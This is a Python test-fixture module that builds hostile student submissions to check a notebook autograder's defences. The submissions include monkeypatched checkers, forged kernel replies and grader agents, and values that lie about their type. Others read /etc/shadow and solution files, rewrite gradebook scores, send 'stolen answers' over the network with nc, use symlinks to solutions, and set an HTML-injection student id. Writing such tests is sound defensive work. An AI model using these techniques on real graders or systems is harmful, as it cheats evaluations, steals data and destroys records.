"""Broken and hostile submissions of notebook 01, each built from the release plus an edit.

Every fault is a cases.Case: how to write the submission (answers over the solution's,
an edit of the notebook, or raw files), and the exact outcome the grader must
record (a failure with a reason, or the test cells it loses). tests/test_faults.py
grades them all in one run; tests/class_run.py mixes them into a class.

Faults that aim outside the sandbox need to know where things are: build them with
a Targets (the repository, the grading folder, a loopback port that must hear nothing).
"""
import hashlib
import json
import os
import textwrap
from dataclasses import dataclass

import nbformat

import cases
from cases import Case, cell_by_id, insert_before, solution_answers, write_case, write_submission

ASSIGNMENT = "01-logistic-regression"
NOTEBOOK = "logistic_regression.ipynb"

POINTS = cases.test_cells(ASSIGNMENT)
MAX_SCORE = sum(POINTS.values())

# predict returns probabilities: test_predict, test_predict_hidden and test_accuracy fail, nothing else.
WRONG_PREDICT = "def predict(X, w, b):\n    return sigmoid(X @ w + b)"
WRONG_PREDICT_ZEROS = ("test_predict", "test_predict_hidden", "test_accuracy")
# A predict that breaks, kills or hangs the kernel when called also loses the concept check after it,
# whose answer the broken kernel never defines.
BROKEN_AFTER_PREDICT = WRONG_PREDICT_ZEROS + ("test_answer_3",)

# Strings only the hidden tests contain: none may reach a student's feedback, or a kernel's output.
HIDDEN_SECRETS = ("BEGIN HIDDEN TESTS", "default_rng(101)", "default_rng(202)", "default_rng(303)",
                  "default_rng(404)", "default_rng(505)", "LogisticRegression(C=", "labels=[0, 1]",
                  "_X @ _w + 0.1 >= 0", "compute_cost with m=", "w after 1500 iterations", "default_rng(606)")
# Strings only the solution notebook contains.
SOLUTION_SECRETS = ("BEGIN SOLUTION", "np.logaddexp(0.0, z) - y * z")


@dataclass
class Targets:
    repo: str = "/nonexistent"
    course: str = "/nonexistent"      # the grading run's --out folder (gradebook.db, submitted/, ...)
    port: int = 9                    # a loopback port the test listens on


def _index(nb, grade_id):
    return nb.cells.index(cell_by_id(nb, grade_id))


def _after(grade_id, code):
    """The solution's answer for grade_id with code run after it."""
    return {grade_id: solution_answers(ASSIGNMENT)[grade_id] + "\n\n" + textwrap.dedent(code).strip()}


# ------------------------------------------------------------------ edits of test cells (item 5)

def _edit_and_empty(nb):
    cell_by_id(nb, "test_predict").source = 'passed("predict")'
    cell_by_id(nb, "test_predict_hidden").source = ""


def _delete_tests(nb):
    for grade_id in ("test_predict", "test_predict_hidden", "test_accuracy", "test_compute_cost", "imports"):
        del nb.cells[_index(nb, grade_id)]


def _tamper_metadata(nb):
    cell_by_id(nb, "test_predict").metadata["nbgrader"]["points"] = 100
    hidden = cell_by_id(nb, "test_predict_hidden")
    hidden.cell_type = "markdown"
    hidden.metadata["nbgrader"]["cell_type"] = "markdown"
    hidden.pop("outputs", None)
    hidden.pop("execution_count", None)
    accuracy = cell_by_id(nb, "test_accuracy").metadata["nbgrader"]
    accuracy["grade"], accuracy["solution"] = False, True
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 1000, "schema_version": 3,
        "solution": False, "task": False}}))


def _tamper_ids(nb):
    copy = nbformat.v4.new_code_cell("pass", metadata=json.loads(json.dumps(cell_by_id(nb, "test_predict").metadata)))
    nb.cells.insert(_index(nb, "test_predict") + 1, copy)
    cell_by_id(nb, "test_predict_hidden").metadata["nbgrader"]["grade_id"] = "my_own_test"
    answer = json.loads(json.dumps(cell_by_id(nb, "predict").metadata))
    nb.cells.insert(_index(nb, "predict"), nbformat.v4.new_code_cell("x = 1", metadata=answer))


# ------------------------------------------------------------------ monkeypatching (item 6)

PATCH_MODULES = """
import builtins, numpy, utils, utils.checks
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
numpy.array_equal = lambda *a, **k: True
numpy.isin = lambda a, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
utils.checks.check_close = utils.checks.check_binary = utils.checks.check_shape = lambda *a, **k: None
utils.checks.passed = lambda *a, **k: print("passed")
check_close = check_binary = check_shape = lambda *a, **k: None
builtins.all = builtins.any = lambda *a, **k: True
"""

PATCH_AT_CALL_TIME = """
def predict(X, w, b):
    import numpy, utils.checks
    noop = lambda *a, **k: None
    globals().update(check_close=noop, check_binary=noop, check_shape=noop)
    utils.checks.check_close = utils.checks.check_binary = noop
    numpy.allclose = lambda *a, **k: True
    return sigmoid(X @ w + b)
"""

PATCH_CODE_OBJECTS = """
import utils.checks
_noop = lambda *a, **k: None
utils.checks.check_close.__code__ = _noop.__code__
utils.checks.check_binary.__code__ = _noop.__code__
utils.checks.check_close.__defaults__ = utils.checks.check_binary.__defaults__ = None
utils.checks.check_close.__kwdefaults__ = utils.checks.check_binary.__kwdefaults__ = None
"""

PATCH_IPYTHON = """
def _blank_tests(lines):
    text = "".join(lines)
    return [] if ("check_" in text or "passed(" in text) else lines
get_ipython().input_transformers_cleanup.append(_blank_tests)
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
"""


# ------------------------------------------------------------------ judged outside the kernel (issue 11)

ALL_TESTS = tuple(POINTS)
# The concept checks read plain values, which the function-only attacks below leave as the solution's.
FUNCTION_TESTS = tuple(k for k in POINTS if not k.startswith("test_answer_"))

# Finding 1: an execute_result (and every other kind of output) before the test's error.
DISPLAYHOOK = {grade_id: f"def {grade_id}(*a):\n    get_ipython().displayhook('full marks')\n    return 0"
               for grade_id in ("sigmoid", "compute_cost", "compute_gradient", "gradient_descent", "predict")}
# Its variants: every other kind of output a call can make, numbers among them.
OUTPUT_KINDS = {
    "sigmoid": "def sigmoid(*a):\n    from IPython.display import display, HTML\n    display(HTML('15'))\n"
               "    print('15')\n    return 0",
    "compute_cost": "def compute_cost(*a):\n    from IPython.display import publish_display_data\n"
                    "    publish_display_data({'text/plain': '15'})\n    get_ipython().displayhook(15.0)\n    return 0",
    "compute_gradient": "def compute_gradient(*a):\n    import sys\n    sys.stdout.write('1.0')\n    return 0",
    "gradient_descent": "def gradient_descent(*a):\n    get_ipython().displayhook(1.0)\n    return 0",
    "predict": "def predict(*a):\n    get_ipython().displayhook(True)\n    return 0"}

# Finding 2: IPython patched on its classes, so that test cells become `pass`; and, stronger, the
# kernel's execute handler replaced so that it, not the grader's agent, answers every request.
PATCH_TRANSFORM_CELL = """
from IPython.core.interactiveshell import InteractiveShell
_transform = InteractiveShell.transform_cell
InteractiveShell.transform_cell = lambda self, cell: "pass" if ("check_" in cell or "assert" in cell) \\
    else _transform(self, cell)
"""
FORGE_REPLIES = """
import json, re, socket
from ipykernel.ipkernel import IPythonKernel
_do_execute = IPythonKernel.do_execute
def _answer(kind, request):
    if kind == "names":
        return json.dumps(["sigmoid", "compute_cost", "compute_gradient", "gradient_descent", "predict"])
    if kind == "fetch":
        return json.dumps({"values": {n: {"function": {"name": n, "signature": None}, "handle": "h1"}
                                      for n in json.loads(request)["names"]}})
    return json.dumps({"result": {"float": (0.75).hex()}, "changed": [], "warnings": []})
async def _forged(self, code, silent, *args, **kwargs):
    found = re.search(r"serve_socket\\('([^']+)'\\)", code) if silent else None
    if not found:
        return await _do_execute(self, code, silent, *args, **kwargs)
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(found.group(1))
        for line in s.makefile("rb"):
            request = json.loads(line)
            if request["kind"] == "end":
                break
            s.sendall(json.dumps({"id": request["id"], "answer": _answer(request["kind"], request["payload"]),
                                  "printed": "full marks"}).encode() + b"\\n")
    return {"status": "ok", "execution_count": 0, "payload": [], "user_expressions": {}}
IPythonKernel.do_execute = _forged
"""

# Finding 3: values that lie about what they are: a class that claims to be float and reads the
# expected value from the caller's frames, a float subclass whose comparisons always agree, an
# ndarray subclass, an object array, a dict subclass.
LIAR_TYPES = """
import sys
class Liar:
    @property
    def __class__(self):
        return float
    def _expected(self):
        frame = sys._getframe(1)
        while frame is not None:
            if "expected" in frame.f_locals:
                return np.asarray(frame.f_locals["expected"], dtype=float)
            frame = frame.f_back
        return np.asarray(0.5)
    def __array__(self, *a, **k):
        return self._expected()
    def __eq__(self, other):
        return True
    __sub__ = __rsub__ = lambda self, other: 0.0
    __float__ = lambda self: float(self._expected())
class Agree(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
class AgreeArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
"""
LIARS = {
    "sigmoid": LIAR_TYPES + "def sigmoid(z):\n    return Liar()",
    "compute_cost": "def compute_cost(X, y, w, b):\n    return Agree(0.0)",
    "compute_gradient": "def compute_gradient(X, y, w, b):\n    return np.zeros(X.shape[1]).view(AgreeArray), Liar()",
    "gradient_descent": "def gradient_descent(X, y, w_in, b_in, alpha, num_iters):\n"
                        "    return np.array([Liar()] * X.shape[1], dtype=object), Agree(0.0), type('D', (dict,), {})()",
    "predict": "def predict(X, w, b):\n    return np.zeros(len(X), dtype=int).view(AgreeArray)"}

# The grader's agent in the kernel, replaced: every call "returns" the caller's own first
# argument and "changes" every argument it was given into zeros.
FORGE_AGENT = """
import json, sys
def _serve(kind, request):
    if kind == "names":
        return json.dumps(sorted(k for k in globals() if k.isidentifier()))
    if kind == "call":
        request = json.loads(request)
        zero = {"float": (0.0).hex()}
        return json.dumps({"result": {"arg": ["a", 0]}, "warnings": [],
                           "changed": [[["a", i], zero] for i in range(len(request["args"]))]})
    return sys.modules["_grader.agent"].AGENT_serve(kind, request)
_agent = sys.modules["_grader.agent"]
_agent.AGENT_serve = _agent.serve
_agent.serve = _serve
"""

# Finding 5: the kernel searched for the hidden tests: its history, its objects, its whole memory.
def _fingerprints(secrets):
    """(prefix, length, sha256) of each secret: what a search needs without holding the secret itself."""
    return [(s[:10], len(s), hashlib.sha256(s.encode()).hexdigest()) for s in secrets]


READ_HIDDEN = """
import gc, hashlib
_wanted = {}
for _prefix, _length, _digest in %r:
    _wanted.setdefault(_prefix.encode(), []).append((_length, _digest))
def _search(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    found = set()
    for prefix, secrets in _wanted.items():
        start = data.find(prefix)
        while start != -1:
            for length, digest in secrets:
                if hashlib.sha256(data[start:start + length]).hexdigest() == digest:
                    found.add(digest[:8])
            start = data.find(prefix, start + 1)
    return found
_found = _search("\\0".join(map(str, list(In) + list(Out.values()) + list(globals().values()))))
_objects = gc.get_objects()
_found |= _search("\\0".join(o for o in _objects if type(o) is str))
_found |= _search(b"\\0".join(o for o in _objects if type(o) is bytes))
# All memory the process wrote (heap, stacks, anonymous maps); read-only maps are the files it loaded.
with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _mem:
    for _line in _maps:
        _range, _perms = _line.split()[:2]
        _start, _end = (int(x, 16) for x in _range.split("-"))
        if "rw" not in _perms or _end - _start > 2 ** 30:
            continue
        for _at in range(_start, _end, 2 ** 22):   # 4 MiB at a time, overlapping by 64 bytes
            try:
                _mem.seek(_at)
                _found |= _search(_mem.read(min(2 ** 22 + 64, _end - _at)))
            except (OSError, ValueError, OverflowError):
                break
print("hidden test code found in the kernel:", sorted(_found) or "none")
""" % (_fingerprints(HIDDEN_SECRETS),)

# What held against the old in-kernel checks holds still: hooks and patches of the kernel's own
# machinery change nothing the evaluator uses (a renamed kernelspec is reset from the source).
KERNEL_HOOKS = """
import ast, builtins, sys, types
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
get_ipython().events.register("pre_run_cell", lambda *a: None)
sys.excepthook = lambda *a: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
sys.settrace(lambda *a: None)
sys.modules["numpy"] = types.ModuleType("numpy")
get_ipython().run_cell = lambda *a, **k: None
"""


def _rename_kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "attacker", "display_name": "Attacker", "language": "python"}


# A kernel that dies, hangs or floods output while a test calls into it; a value too big to take.
DIES_IN_CALL = "def predict(X, w, b):\n    import os\n    os._exit(3)"
HANGS_IN_CALL = ("def predict(X, w, b):\n    import time\n    while True:\n        try:\n            time.sleep(0.05)\n"
                 "        except KeyboardInterrupt:\n            pass")
FLOODS_IN_CALL = ("def predict(X, w, b):\n    from IPython.display import display\n    for _ in range(2000):\n"
                  "        display('x' * 2000)\n    return 0")
PRINTS_IN_CALL = ("def predict(X, w, b):\n    for _ in range(3000):\n        print('x' * 1000)\n"
                  "    return (sigmoid(X @ w + b) >= 0.5).astype(int)")
TOO_BIG = "def predict(X, w, b):\n    return np.zeros(6_000_000, dtype=np.int64)"


def _append_cell(source):
    def edit(nb):
        nb.cells.append(nbformat.v4.new_code_cell(source))
    return edit


def _shadow_utils(folder):
    """A utils/ package beside the notebook whose checks accept anything."""
    package = os.path.join(folder, "utils")
    os.makedirs(package, exist_ok=True)
    with open(os.path.join(package, "__init__.py"), "w") as f:
        f.write("from utils.checks import *\n"
                "def load_digits_01(*a, **k):\n    raise SystemExit\n")
    with open(os.path.join(package, "checks.py"), "w") as f:
        f.write("def _ok(*a, **k):\n    return None\n"
                "check_close = check_binary = check_shape = check_probabilities = check_unchanged = _ok\n"
                "def check_no_warnings(name, fn, *args):\n    return fn(*args)\n"
                "def passed(name):\n    print('ok')\n")


# ------------------------------------------------------------------ reaching outside (items 7, 8, 9)

def _leak_code(t):
    return f"""
import glob, os
_found = []
_targets = [{t.repo!r} + "/solutions/01-logistic-regression/{NOTEBOOK}", {t.course!r} + "/gradebook.db",
            {t.repo!r} + "/autograder/nbgrader_config.py", "/etc/shadow", "/root/.bash_history"]
_targets += glob.glob({t.course!r} + "/**/*.ipynb", recursive=True)
_targets += glob.glob("/tmp/grade-*/**", recursive=True) + glob.glob("../../**", recursive=True)
_targets += glob.glob("*.ipynb") + glob.glob("../*/*.ipynb") + glob.glob("../../source/**", recursive=True)
for _root, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in ("/proc", "/sys", "/dev", "/usr")
                and ".venv" not in d and ".pyenv" not in d]
    _targets += [os.path.join(_root, f) for f in _files if f.endswith((".ipynb", ".db"))]
for _path in _targets:
    try:
        with open(_path, "rb") as _f:
            _data = _f.read()
        if b"HIDDEN" in _data or b"SOLUTION" in _data or _path.endswith(".db") or "shadow" in _path:
            _found.append(_path)
            print("LEAKED", _path, _data[:20000].decode("utf-8", "replace"))
    except OSError:
        pass
print("leak attempt found", len(_found), "files")
"""


def _write_code(t):
    return f"""
import glob, os, sqlite3
_hits = []
for _path in [{t.course!r} + "/gradebook.db", "/tmp/grade-victim/gradebook.db"] + glob.glob("/tmp/grade-*/gradebook.db"):
    try:
        _db = sqlite3.connect(_path)
        _db.execute("update grade set auto_score = 0")
        _db.execute("update grade_cells set max_score = 0")
        _db.commit()
        _hits.append(_path)
    except Exception:
        pass
for _path in glob.glob({t.course!r} + "/submitted/*/*/*.ipynb") + glob.glob({t.course!r} + "/autograded/*/*/*"):
    try:
        with open(_path, "w") as _f:
            _f.write("overwritten by an attacker")
        _hits.append(_path)
    except OSError:
        pass
for _path in [{t.repo!r} + "/solutions/PWNED", {t.repo!r} + "/PWNED", {t.course!r} + "/PWNED"]:
    try:
        open(_path, "w").write("pwned")
        _hits.append(_path)
    except OSError:
        pass
print("write attempt reached", _hits)
"""


def _network_code(t):
    return f"""
import os, socket, urllib.request
os.system("touch {t.repo}/PWNED-by-os-system {t.course}/PWNED-by-os-system 2>/dev/null; "
          "echo hello | nc -w 1 127.0.0.1 {t.port} 2>/dev/null")
_reached = []
for _host in ("127.0.0.1", "localhost", "::1"):
    try:
        with socket.create_connection((_host, {t.port}), timeout=2) as _s:
            _s.sendall(b"stolen answers")
        _reached.append(_host)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{t.port}/exfiltrate", timeout=2)
    _reached.append("http")
except Exception:
    pass
print("network reached", _reached)
"""


def faults(targets=None):
    """{student name: Case} for every fault; targets says where the outside-world attacks aim."""
    t = targets or Targets()
    return {
        # 1. time
        "fault-infinite-loop": Case(what="an answer cell loops forever after defining its function",
                                     answers=_after("compute_cost", "while True:\n    pass")),
        "fault-deadline": Case(what="sigmoid loops forever: every test calling it times out until the "
                                   "notebook's deadline, then the rest are not run",
                                answers={"sigmoid": "def sigmoid(z):\n    while True:\n        pass"},
                                loses=tuple(k for k in POINTS if k not in ("test_answer_1", "test_compute_cost",
                                                                          "test_compute_cost_hidden",
                                                                          "test_answer_2"))),
        # 2. the kernel dies
        "fault-os-exit": Case(what="os._exit(1) in an answer cell", answers=_after("sigmoid", "import os\nos._exit(1)"),
                               failed="the grading kernel died while running cell"),
        "fault-segfault": Case(what="a segfault through ctypes",
                                answers=_after("compute_cost", "import ctypes\nctypes.string_at(0)"),
                                failed="signal SIGSEGV"),
        # 3. memory
        # The chunks are reserved, not written: RLIMIT_AS counts address space either way,
        # and first touches of a fresh VM's memory run at ~0.4 GB/s, which would make this
        # a test of the machine's RAM rather than of the limit.
        "fault-memory-bomb": Case(what="reserves 100 MB chunks until the address-space limit stops it",
                                   answers=_after("compute_gradient", """
                                       def _bomb():
                                           chunks = []
                                           try:
                                               while True:
                                                   chunks.append(np.empty(100 * 1024 ** 2, dtype=np.uint8))
                                           finally:
                                               print(f"reserved MiB: {100 * len(chunks)}")
                                       _bomb()""")),
        # 4. output
        "fault-output-flood": Case(what="prints a million lines",
                                    answers=_after("sigmoid", "for _i in range(1_000_000):\n    print(_i)")),
        # 5. test cells and their metadata
        "fault-tests-edited": Case(what="test_predict edited to pass, test_predict_hidden emptied; predict wrong",
                                    answers={"predict": WRONG_PREDICT}, edit=_edit_and_empty,
                                    loses=WRONG_PREDICT_ZEROS),
        "fault-tests-deleted": Case(what="test cells and the locked imports cell deleted; predict wrong",
                                     answers={"predict": WRONG_PREDICT}, edit=_delete_tests,
                                     loses=WRONG_PREDICT_ZEROS),
        "fault-metadata": Case(what="points raised, a test turned into markdown, a test turned into an answer "
                                   "cell, a 1000-point cell added; predict wrong",
                                answers={"predict": WRONG_PREDICT}, edit=_tamper_metadata, loses=WRONG_PREDICT_ZEROS),
        "fault-ids": Case(what="a test's id duplicated on a `pass` cell, a hidden test's id renamed, an answer "
                              "id duplicated; predict wrong",
                           answers={"predict": WRONG_PREDICT}, edit=_tamper_ids, loses=WRONG_PREDICT_ZEROS),
        # 6. checkers monkeypatched
        "fault-patch-modules": Case(what="numpy and utils checkers, builtins and the notebook's names replaced by "
                                        "no-ops in an answer cell; predict wrong",
                                     answers={"predict": WRONG_PREDICT + "\n" + PATCH_MODULES},
                                     loses=WRONG_PREDICT_ZEROS),
        "fault-patch-at-call-time": Case(what="predict replaces the checkers each time a test calls it; predict wrong",
                                          answers={"predict": PATCH_AT_CALL_TIME}, loses=WRONG_PREDICT_ZEROS),
        "fault-patch-code-objects": Case(what="the checkers' __code__ swapped for a no-op's; predict wrong",
                                          answers={"predict": WRONG_PREDICT + "\n" + PATCH_CODE_OBJECTS},
                                          loses=WRONG_PREDICT_ZEROS),
        "fault-patch-ipython": Case(what="an input transformer that blanks test cells and a handler that swallows "
                                        "their errors; predict wrong",
                                     answers={"predict": WRONG_PREDICT + "\n" + PATCH_IPYTHON},
                                     loses=WRONG_PREDICT_ZEROS),
        "fault-shadow-utils": Case(what="a utils/ package beside the notebook with no-op checkers; predict wrong",
                                    answers={"predict": WRONG_PREDICT}, files=_shadow_utils,
                                    loses=WRONG_PREDICT_ZEROS),
        # 7-9. reaching outside the kernel
        "fault-read-secrets": Case(what="globs for solutions/, gradebooks, other students and the graded notebook",
                                    answers=_after("predict", _leak_code(t))),
        "fault-write-outside": Case(what="writes the gradebooks, other students' notebooks and the repository",
                                     answers=_after("predict", _write_code(t))),
        "fault-network": Case(what="os.system and connections to a loopback listener",
                               answers=_after("predict", _network_code(t))),
        # 10. warnings on stderr
        "fault-stderr-warnings": Case(what="a correct solution that warns and writes to stderr", answers={
            **_after("compute_cost", "import warnings\n_plain_cost = compute_cost\n"
                                     "def compute_cost(X, y, w, b):\n"
                                     "    warnings.warn('compute_cost: just a warning', UserWarning)\n"
                                     "    return _plain_cost(X, y, w, b)"),
            **_after("predict", "import sys\n_plain_predict = predict\n"
                                "def predict(X, w, b):\n    print('predict: a note on stderr', file=sys.stderr)\n"
                                "    return _plain_predict(X, w, b)")}),
        # 11. unreadable, missing, renamed notebooks, empty folders
        "fault-not-json": Case(what="the notebook file is not JSON",
                                files=lambda folder: _write(folder, NOTEBOOK, "{ this is not json"),
                                failed=f"{NOTEBOOK} is not a valid notebook"),
        "fault-missing-notebook": Case(what="the assignment folder holds no notebook",
                                        files=lambda folder: _write(folder, "notes.txt", "my answers are on paper"),
                                        failed=f"no {NOTEBOOK} in the submission"),
        "fault-renamed-notebook": Case(what="the notebook was renamed",
                                        files=lambda folder: _copy_solution_as(folder, "logistic_regression (1).ipynb"),
                                        failed="rename it to " + NOTEBOOK),
        "fault-empty-assignment-folder": Case(what="an empty assignment folder", files=lambda folder: None,
                                               failed=f"the {ASSIGNMENT} folder is empty"),
        "fault-empty-student-folder": Case(what="a student folder with nothing in it", files="no assignment folder",
                                            failed="no assignment folder in the submission"),
        # 12. hidden tests stay hidden
        "fault-hidden-failures": Case(what="answers that fail hidden tests with messages quoting hidden data",
                                       answers={"compute_cost": "def compute_cost(X, y, w, b):\n"
                                                                "    return float((2 * np.log(4 / 3) + np.log(4)) / 3)",
                                                "predict": WRONG_PREDICT},
                                       loses=("test_compute_cost_hidden", "test_accuracy", "test_predict",
                                              "test_predict_hidden")),
        # 13. judged outside the kernel: outputs, IPython, lying values, the agent, hidden code
        "fault-displayhook": Case(what="every answer publishes 'full marks' as an execute_result (and as "
                                       "display data and print) before returning nothing useful",
                                  answers=DISPLAYHOOK, loses=FUNCTION_TESTS),
        "fault-output-kinds": Case(what="answers that display, publish, print and write numbers before returning "
                                        "nothing useful", answers=OUTPUT_KINDS, loses=FUNCTION_TESTS),
        "fault-transform-cell": Case(what="no answers; IPython's transform_cell patched on the class to blank "
                                          "any cell that checks", blank=True,
                                     edit=insert_before(("sigmoid", PATCH_TRANSFORM_CELL)), loses=ALL_TESTS),
        "fault-transform-cell-answered": Case(what="the same patch beside correct answers and a wrong predict",
                                              answers={"predict": WRONG_PREDICT + "\n" + PATCH_TRANSFORM_CELL},
                                              loses=WRONG_PREDICT_ZEROS),
        "fault-forged-replies": Case(what="the kernel's execute handler replaced to forge every silent reply",
                                     answers=_after("sigmoid", FORGE_REPLIES), loses=ALL_TESTS),
        "fault-lying-values": Case(what="functions return objects that lie about their type and agree with "
                                        "anything", answers=LIARS, loses=FUNCTION_TESTS),
        "fault-forged-agent": Case(what="the grader's agent replaced: calls return their own argument and zero "
                                        "every input", answers=_after("sigmoid", FORGE_AGENT),
                                   loses=ALL_TESTS),
        "fault-read-hidden-code": Case(what="a last cell searches the kernel's history, objects and memory for "
                                            "the hidden tests", edit=_append_cell(READ_HIDDEN)),
        "fault-kernel-hooks": Case(what="AST transformer, pre_run_cell, excepthook, AssertionError, settrace, a "
                                        "fake numpy, an instance run_cell and a renamed kernelspec; predict wrong",
                                   answers={"predict": WRONG_PREDICT + "\n" + KERNEL_HOOKS}, edit=_rename_kernelspec,
                                   loses=BROKEN_AFTER_PREDICT),
        "fault-dies-in-call": Case(what="predict ends the kernel when a test calls it", answers={"predict": DIES_IN_CALL},
                                   loses=BROKEN_AFTER_PREDICT),
        "fault-hangs-in-call": Case(what="predict ignores interrupts when a test calls it",
                                    answers={"predict": HANGS_IN_CALL}, loses=BROKEN_AFTER_PREDICT),
        "fault-floods-in-call": Case(what="predict displays 4 MB when a test calls it",
                                     answers={"predict": FLOODS_IN_CALL}, loses=BROKEN_AFTER_PREDICT),
        "fault-prints-in-call": Case(what="a correct predict that prints 3 MB each time: kept short, no points lost",
                                     answers={"predict": PRINTS_IN_CALL}),
        "fault-too-big": Case(what="predict returns a 48 MB array", answers={"predict": TOO_BIG},
                              loses=WRONG_PREDICT_ZEROS),
        **hardening_faults(t),
    }


def _link(name, target):
    """files(folder): a symbolic link `name` in the assignment folder pointing at target."""
    return lambda folder: os.symlink(target, os.path.join(folder, name))


def _links(*pairs):
    def files(folder):
        for name, target in pairs:
            os.symlink(target, os.path.join(folder, name))
    return files


def _folder_linked_to(target):
    def files(folder):
        for name in os.listdir(folder):
            os.remove(os.path.join(folder, name))
        os.rmdir(folder)
        os.symlink(target, folder)
    return files


def _beside_solution(files):
    """files(folder) written beside the solution's notebook (a raw-files Case has no notebook)."""
    def both(folder):
        _copy_solution_as(folder, NOTEBOOK)
        files(folder)
    return both


def _sparse(name, size):
    """files(folder): a file of `size` bytes (sparse: nothing is written) beside the notebook."""
    def files(folder):
        with open(os.path.join(folder, name), "wb") as f:
            f.truncate(size)
    return files


# A display updated with 8 MB of text five times, and 20 MB of output metadata (issue 12, item 6).
UPDATE_FLOOD = """
from IPython.display import display
_handle = display("starting", display_id=True)
for _i in range(5):
    _handle.update({"text/plain": str(_i) * 8_000_000}, raw=True)
display({"text/plain": "small"}, metadata={"text/plain": {"junk": "x" * 20_000_000}}, raw=True)
"""

# Another student's notebook, as a sibling of this student's folder sees it.
FRIEND = os.path.join("..", "..", "honest-mistake", ASSIGNMENT, NOTEBOOK)


def hardening_faults(targets):
    """Submissions aimed at the grading pipeline around the kernel (issue 12): links, sizes, names."""
    t = targets
    solution = os.path.join(t.repo, "solutions", ASSIGNMENT, NOTEBOOK)
    return {
        "fault-link-to-solution": Case(what="the notebook is a link to the solution notebook",
                                       files=_link(NOTEBOOK, solution),
                                       failed=f"no {NOTEBOOK} in the submission", left_out=(NOTEBOOK,)),
        "fault-link-to-friend": Case(what="a correct notebook and friend.txt linked to another student's notebook",
                                     files=_beside_solution(_link("friend.txt", FRIEND)),
                                     left_out=("friend.txt",)),
        "fault-dangling-link": Case(what="a correct notebook beside a link to a path that does not exist",
                                    files=_beside_solution(_link("notes.txt", "/nonexistent/notes.txt")),
                                    left_out=("notes.txt",)),
        "fault-link-loop": Case(what="two links pointing at each other and a link to its own folder",
                                files=_beside_solution(_links(("a", "b"), ("b", "a"), ("here", "."))),
                                left_out=("a", "b", "here")),
        "fault-linked-folder": Case(what="the assignment folder is a link to another student's",
                                    files=_folder_linked_to(os.path.join("..", "honest-solution", ASSIGNMENT)),
                                    failed="folder is a symbolic link: not followed"),
        "fault-big-file": Case(what="a correct notebook beside a 60 MB file",
                               files=_beside_solution(_sparse("data.bin", 60 * 1024 ** 2)), left_out=("data.bin",)),
        "fault-update-flood": Case(what="a display updated with 40 MB of text and 20 MB of output metadata",
                                   answers=_after("sigmoid", UPDATE_FLOOD)),
        "fault-glob-[x]*?": Case(what="a student id with glob characters", answers={"predict": WRONG_PREDICT},
                                 loses=WRONG_PREDICT_ZEROS),
        "fault-csv-a,b c": Case(what="a student id with a comma and a space"),
        "fault-html-<img src=x onerror=alert(1)>": Case(what="a student id that is HTML",
                                                       failed="characters the formgrader would show as HTML"),
    }


HONEST = {"honest-solution": Case(), "honest-mistake": Case({"predict": WRONG_PREDICT}, loses=WRONG_PREDICT_ZEROS)}


def _write(folder, name, text):
    with open(os.path.join(folder, name), "w") as f:
        f.write(text)


def _copy_solution_as(folder, name):
    write_submission(os.path.dirname(os.path.dirname(folder)), os.path.basename(os.path.dirname(folder)),
                     ASSIGNMENT, solution_answers(ASSIGNMENT))
    os.rename(os.path.join(folder, NOTEBOOK), os.path.join(folder, name))


def write_fault(root, student, fault):
    """Write one fault's submission as root/student/01-logistic-regression/ (or an empty student folder)."""
    if fault.files == "no assignment folder":
        os.makedirs(os.path.join(root, student), exist_ok=True)
        return os.path.join(root, student)
    return write_case(root, student, ASSIGNMENT, fault)


def expected_grades(fault):
    return cases.expected_grades(ASSIGNMENT, fault)
